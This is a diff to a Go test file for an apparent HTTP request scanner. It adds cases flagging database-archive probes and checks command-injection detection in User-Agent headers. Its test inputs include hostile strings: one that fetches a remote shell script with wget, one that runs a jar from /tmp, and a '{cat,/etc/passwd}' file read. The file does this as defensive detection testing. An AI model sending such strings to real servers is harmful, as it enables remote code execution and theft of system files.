@@ -76,6 +76,20 @@ var requestCases = []struct {
 		want: []string{CodeScannerProbe},
 	},
 	{
+		name: "database_dump_archive",
+		req:  func() *http.Request { return httptest.NewRequest("GET", "/db_backup.sql.tar.bzip2", nil) },
+		want: []string{CodeScannerProbe},
+	},
+	{
+		name: "database_archive_by_name",
+		req:  func() *http.Request { return httptest.NewRequest("GET", "/mysql.zip", nil) },
+		want: []string{CodeScannerProbe},
+	},
+	{
+		name: "download_archive_is_served",
+		req:  func() *http.Request { return httptest.NewRequest("GET", "/downloads/report-2026.zip", nil) },
+	},
+	{
 		name: "well_known_is_served",
 		req:  func() *http.Request { return httptest.NewRequest("GET", "/.well-known/security.txt", nil) },
 	},
@@ -767,5 +781,33 @@ func TestQueryCache(t *testing.T) {
 				t.Errorf("no %s finding for 300 parameters: %+v", CodeProtocol, first)
 			}
 		})
+	}
+}
+
+// User-Agents of real clients that read like command lines to a shell-minded scanner:
+// product tokens between a comment's semicolons, and pip's JSON. A command that is
+// not a product token is still one.
+func TestUserAgentCommands(t *testing.T) {
+	s := newScanner(t)
+	for _, tc := range []struct {
+		ua   string
+		cmdi bool
+	}{
+		{"yacybot (-global; amd64 Linux 5.2.9-Jinsol; java 12.0.2; Europe/en) http://yacy.net/bot.html", false},
+		{"yacybot (/global; amd64 FreeBSD 10.3-RELEASE; java 1.8.0_77; GMT/en) http://yacy.net/bot.html", false},
+		{`pip/21.0.1 {"ci":null,"cpu":"x86_64","distro":{"id":"stretch","libc":{"lib":"glibc","version":"2.24"}}}`, false},
+		{"Mozilla/5.0 (x; wget http://203.0.113.9/x.sh -O /tmp/x)", true},
+		{"Mozilla/5.0 (x; java -jar /tmp/x.jar)", true},
+		{"{cat,/etc/passwd}", true},
+	} {
+		r := httptest.NewRequest(http.MethodGet, "/", nil)
+		r.Header.Set("User-Agent", tc.ua)
+		fs, err := s.ScanRequest(nil, r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := hasCode(fs, CodeCmdi, blockScore); got != tc.cmdi {
+			t.Errorf("User-Agent %q: cmdi %v, want %v (findings %+v)", tc.ua, got, tc.cmdi, fs)
+		}
 	}
 }
